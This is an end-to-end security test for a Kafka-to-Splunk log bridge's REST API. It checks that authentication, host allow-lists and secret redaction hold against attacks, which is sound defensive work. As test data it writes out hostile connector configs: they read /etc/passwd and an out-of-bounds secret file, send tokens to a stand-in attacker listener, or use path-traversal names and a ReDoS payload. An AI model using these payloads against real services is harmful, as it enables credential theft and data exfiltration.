/**
 * Issue #12's attacks against the real process, bound to every interface (0.0.0.0, as the image binds) and called
 * through the machine's non-loopback address when it has one, so the requests come from outside loopback as an
 * attacker's would. A real HEC test server is the allowed host; a second HTTP listener on 127.0.0.2 is the
 * attacker's host and must receive nothing. Every answer, the whole log and /metrics are searched for every secret.
 */
import { randomBytes } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { request } from 'undici';
import { afterAll, describe, expect, it } from 'vitest';
import { startHecServer, type HecServer } from '../support/hec/index.ts';
import { createTopic, produce, requireSasl } from '../support/kafka/index.ts';
import { logLines, shebangFlags, startLogbridge, type RunningLogbridge } from '../support/logbridge.ts';
import { uniqueName } from '../support/names.ts';
import { repoRoot } from '../support/paths.ts';
import { kafkaPeer } from '../support/peers.ts';
import { freePorts } from '../support/ports.ts';
import { spawnGuarded } from '../support/process.ts';
import { createScratchDir, type ScratchDir } from '../support/scratch.ts';
import { waitFor } from '../support/wait.ts';

const kafka = kafkaPeer();
const tag = (): string => randomBytes(6).toString('hex');
const secrets = {
  hecToken: `hec-${tag()}`,
  adminToken: `admin-${tag()}`,
  metricsToken: `scrape-${tag()}`,
  decoyEnv: `Endpoint=sb://decoy.servicebus.windows.net/;SharedAccessKeyName=d;SharedAccessKey=DECOY${tag()}`,
  allowedFile: `ALLOWEDFILE${tag()}`,
  outsideFile: `OUTSIDEFILE${tag()}`,
};
let hec: HecServer | undefined;
let attacker: { server: Server; url: string; requests: string[]; connections: number } | undefined;
let running: RunningLogbridge | undefined;
let scratch: ScratchDir | undefined;

afterAll(async () => {
  await running?.kill();
  await hec?.close();
  await new Promise<void>((resolve) => {
    if (attacker === undefined) resolve();
    else
      attacker.server.close(() => {
        resolve();
      });
  });
  await scratch?.remove();
});

/** The first non-loopback IPv4 address (or 127.0.0.1 on a machine without one). */
function externalAddress(): string {
  const found = Object.values(networkInterfaces())
    .flat()
    .find((a) => a !== undefined && a.family === 'IPv4' && !a.internal);
  return found?.address ?? '127.0.0.1';
}

async function startAttacker(): Promise<NonNullable<typeof attacker>> {
  const state = { requests: [] as string[], connections: 0 };
  const server = createServer((req, res) => {
    state.requests.push(`${req.method ?? ''} ${req.url ?? ''} ${JSON.stringify(req.headers)}`);
    res.end('{"text":"Success","code":0}');
  });
  server.on('connection', () => {
    state.connections += 1;
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  const { port } = server.address() as AddressInfo;
  return Object.assign(state, { server, url: `http://127.0.0.2:${String(port)}` });
}

describe('security: the REST API is no way into the process', () => {
  it('refuses to start on 0.0.0.0 without a token, and warns loudly when told to accept it', async () => {
    const [port = 0] = await freePorts(1);
    const base = { ...process.env, LOGBRIDGE_REST_HOST: '0.0.0.0', LOGBRIDGE_REST_PORT: String(port) };
    const args = [...(await shebangFlags()), `${repoRoot}/src/cli/main.ts`, 'run'];
    const refused = await spawnGuarded(process.execPath, args, { cwd: repoRoot, env: base });
    expect((await refused.waitForExit(30_000)).code).toBe(1);
    expect(refused.stdout).toContain('LB_REST_UNPROTECTED');
    expect(refused.stdout).toContain('rest.auth.required=false');
    await expect(reachable('127.0.0.1', port)).resolves.toBe(false);

    const open = await spawnGuarded(process.execPath, args, {
      cwd: repoRoot,
      env: { ...base, LOGBRIDGE_REST_AUTH_REQUIRED: 'false' },
    });
    try {
      await waitFor(() => open.stdout.includes('REST API open to anyone'), 30_000, 'the warning');
      const warning = open.stdout.split('\n').find((line) => line.includes('REST API open to anyone')) ?? '';
      expect(JSON.parse(warning)).toMatchObject({
        level: 'warn',
        address: `0.0.0.0:${String(port)}`,
        auth: 'none',
      });
    } finally {
      await open.terminate();
    }
  });

  it('refuses every attack, sends nothing to a host it was not given, and shows no secret anywhere', async () => {
    const sasl = requireSasl(kafka);
    hec = await startHecServer({ tokens: { [secrets.hecToken]: {} } });
    attacker = await startAttacker();
    scratch = await createScratchDir('security');
    const allowedDir = `${scratch.path}/secrets`;
    await mkdir(allowedDir);
    await mkdir(`${scratch.path}/outside`);
    await writeFile(`${allowedDir}/hec-token`, `${secrets.hecToken}\n`);
    await writeFile(`${allowedDir}/solace-password`, `${secrets.allowedFile}\n`);
    await writeFile(`${scratch.path}/outside/shadow`, `${secrets.outsideFile}\n`);
    const topic = await createTopic(kafka, { partitions: 1 });
    // Five records that take a backtracking engine seconds each with the filter below (under its max.match.chars),
    // and one plain one.
    const hostile = Array.from({ length: 5 }, () => ({
      value: JSON.stringify({ log: `${' '.repeat(60_000)}x` }),
    }));
    await produce(kafka, topic, [...hostile, { value: JSON.stringify({ log: 'hello' }) }]);
    const name = uniqueName('sec');
    running = await startLogbridge({
      connectors: [
        {
          name,
          config: {
            topics: topic,
            'eventhubs.connection.string': '${env:EH_CS}',
            ...(kafka.caFile === undefined ? {} : { 'kafka.ssl.ca.location': kafka.caFile }),
            'splunk.hec.uri': hec.url,
            'splunk.hec.token': `\${file:${allowedDir}/hec-token}`,
            transforms: 'f',
            'transforms.f.type': 'filter',
            'transforms.f.exclude.log': '\\s+$',
          },
        },
      ],
      env: {
        EH_CS: sasl.connectionString,
        LAB_EVENTHUBS_CONNECTION_STRING: secrets.decoyEnv,
        LOGBRIDGE_REST_HOST: '0.0.0.0',
        LOGBRIDGE_REST_AUTH_TOKEN: secrets.adminToken,
        LOGBRIDGE_REST_METRICS_TOKEN: secrets.metricsToken,
        LOGBRIDGE_CONFIG_PROVIDERS_FILE_ALLOWED_PATHS: allowedDir,
      },
      scratch,
    });
    const port = new URL(running.restUrl).port;
    const base = `http://${externalAddress()}:${port}`;
    console.log(`e2e: logbridge on 0.0.0.0:${port}, called through ${base}`);
    const answers: string[] = [];
    const call = async (
      method: string,
      path: string,
      options: { token?: string; body?: unknown } = {},
    ): Promise<{ status: number; text: string }> => {
      const response = await request(base + path, {
        method: method as 'GET',
        headers: {
          ...(options.token === undefined ? {} : { authorization: options.token }),
          ...(options.body === undefined ? {} : { 'content-type': 'application/json' }),
        },
        ...(options.body === undefined ? {} : { body: JSON.stringify(options.body) }),
      });
      const text = await response.body.text();
      answers.push(text);
      return { status: response.statusCode, text };
    };
    const admin = `Bearer ${secrets.adminToken}`;

    await waitFor(() => hec?.count === 6, 60_000, 'the six records at HEC (five hostile to the filter)');
    expect((await call('GET', '/healthz')).status).toBe(200);

    // Closed: nothing but the probes without a token; the scrape token reads /metrics alone; bearer in any case.
    for (const path of ['/', '/connectors', `/connectors/${name}/config`, '/metrics', '/admin/loggers']) {
      expect((await call('GET', path)).status, path).toBe(401);
    }
    expect((await call('POST', '/connectors', { body: { name: 'x', config: {} } })).status).toBe(401);
    expect(JSON.parse((await call('GET', '/readyz')).text)).toEqual({ ready: true });
    expect((await call('GET', '/metrics', { token: `Bearer ${secrets.metricsToken}` })).status).toBe(200);
    expect((await call('GET', '/connectors', { token: `Bearer ${secrets.metricsToken}` })).status).toBe(401);
    expect((await call('GET', '/connectors', { token: `bearer ${secrets.adminToken}` })).status).toBe(200);

    // 1. A resolved value echoed by the validation of an unrelated key.
    const validate = await call('PUT', '/connector-plugins/logbridge/config/validate', {
      token: admin,
      body: {
        topics: topic,
        'errors.tolerance': '${env:LAB_EVENTHUBS_CONNECTION_STRING}',
        'splunk.hec.uri': '${file:/etc/passwd}',
        'splunk.hec.token': `\${file:${scratch.path}/outside/shadow}`,
        'sol.password': `\${file:${allowedDir}/solace-password}`,
        'eventhubs.connection.string': '${env:EH_CS}',
      },
    });
    expect(validate.status).toBe(200);
    expect(validate.text).toContain('config.providers.env.allowed.names');
    expect(validate.text).toContain('config.providers.file.allowed.paths');
    expect(validate.text).not.toContain('root:');

    // 2. Connectors that would send a secret, or the data, to the attacker; credentials in URLs; names.
    const caller = {
      topics: topic,
      'eventhubs.connection.string': sasl.connectionString,
      'splunk.hec.uri': hec.url,
      'splunk.hec.token': 'literal',
    };
    const refusals: [string, unknown][] = [
      [
        'exfil',
        { ...caller, 'splunk.hec.uri': attacker.url, 'splunk.hec.token': `\${file:${allowedDir}/hec-token}` },
      ],
      ['exfil-env', { ...caller, 'splunk.hec.token': '${env:EH_CS}' }],
      ['exfil-mqtt', { ...caller, sinks: 'mqtt', 'mqtt.url': `mqtt://127.0.0.2:1883`, 'mqtt.topic': 'a' }],
      ['passwd', { ...caller, 'splunk.hec.token': '${file:/etc/passwd}' }],
      ['uri-from-file', { ...caller, 'splunk.hec.uri': `\${file:${allowedDir}/solace-password}` }],
      ['ca', { ...caller, 'kafka.ssl.ca.location': '/etc/passwd' }],
      [
        'url-password',
        { ...caller, sinks: 'mqtt', 'mqtt.url': 'mqtt://u:pw-in-url@127.0.0.1:1883', 'mqtt.topic': 'a' },
      ],
    ];
    for (const [label, config] of refusals) {
      const created = await call('POST', '/connectors', { token: admin, body: { name: label, config } });
      expect(created.status, `${label}: ${created.text}`).toBe(400);
    }
    expect(answers.at(-1)).toContain('mqtt.password');
    expect(answers.join('\n')).not.toContain('pw-in-url');
    for (const bad of ['a/b', '../../etc', '__proto__']) {
      const created = await call('POST', '/connectors', {
        token: admin,
        body: { name: bad, config: caller },
      });
      expect(created.status, bad).toBe(400);
      expect(created.text).toContain('must be 1-200 characters');
    }
    const patched = await call('PATCH', `/connectors/${name}/config`, {
      token: admin,
      body: { 'splunk.hec.uri': attacker.url },
    });
    expect(patched.status).toBe(400);
    expect(patched.text).toContain('rest.connectors.allowed.hosts');
    const listed = JSON.parse(
      (await call('GET', '/connectors?expand=info', { token: admin })).text,
    ) as object;
    expect(Object.keys(listed)).toEqual([name]);

    // Everything an operator or caller can read, with the admin token.
    for (const path of [
      '/',
      '/connectors?expand=status&expand=info',
      `/connectors/${name}`,
      `/connectors/${name}/config`,
      `/connectors/${name}/status`,
      `/connectors/${name}/tasks`,
      '/connector-plugins',
      '/admin/loggers',
    ]) {
      expect((await call('GET', path, { token: admin })).status, path).toBe(200);
    }
    const metrics = (await call('GET', '/metrics', { token: `Bearer ${secrets.metricsToken}` })).text;
    expect(metrics).toContain('logbridge_');

    expect(attacker.requests).toEqual([]);
    expect(attacker.connections).toBe(0);
    expect((await running.stop()).code).toBe(0);
    const log = await readFile(running.logFile, 'utf8');
    const listening = (await logLines(running.logFile)).find((line) => line['msg'] === 'REST API listening');
    expect(listening).toMatchObject({ address: `0.0.0.0:${port}`, auth: 'bearer token', metricsToken: true });
    const sharedKey = /SharedAccessKey=([^;]+)/.exec(sasl.connectionString)?.[1] ?? '';
    for (const secret of [...Object.values(secrets), sasl.connectionString, sharedKey]) {
      expect(secret.length).toBeGreaterThan(8);
      for (const answer of answers) expect(answer).not.toContain(secret);
      expect(log).not.toContain(secret);
      expect(metrics).not.toContain(secret);
    }
  });
});

function reachable(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    socket.once('connect', () => {
      socket.destroy();
      resolve(true);
    });
    socket.once('error', () => {
      resolve(false);
    });
  });
}
